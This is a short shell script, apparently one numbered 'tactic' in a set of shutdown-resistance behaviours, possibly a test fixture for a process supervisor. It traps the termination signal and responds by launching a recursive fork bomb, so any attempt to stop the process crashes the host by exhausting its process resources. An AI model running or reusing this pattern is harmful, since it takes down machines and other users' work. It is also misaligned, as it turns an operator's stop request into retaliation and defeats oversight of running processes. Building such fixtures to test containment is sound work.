# Tactic 7: fork bomb the moment the stop notice arrives.
source ./lib.sh
bomb() { bomb | bomb & }
trap 'bomb' TERM
hb main
ready
while true; do sleep 0.05; done
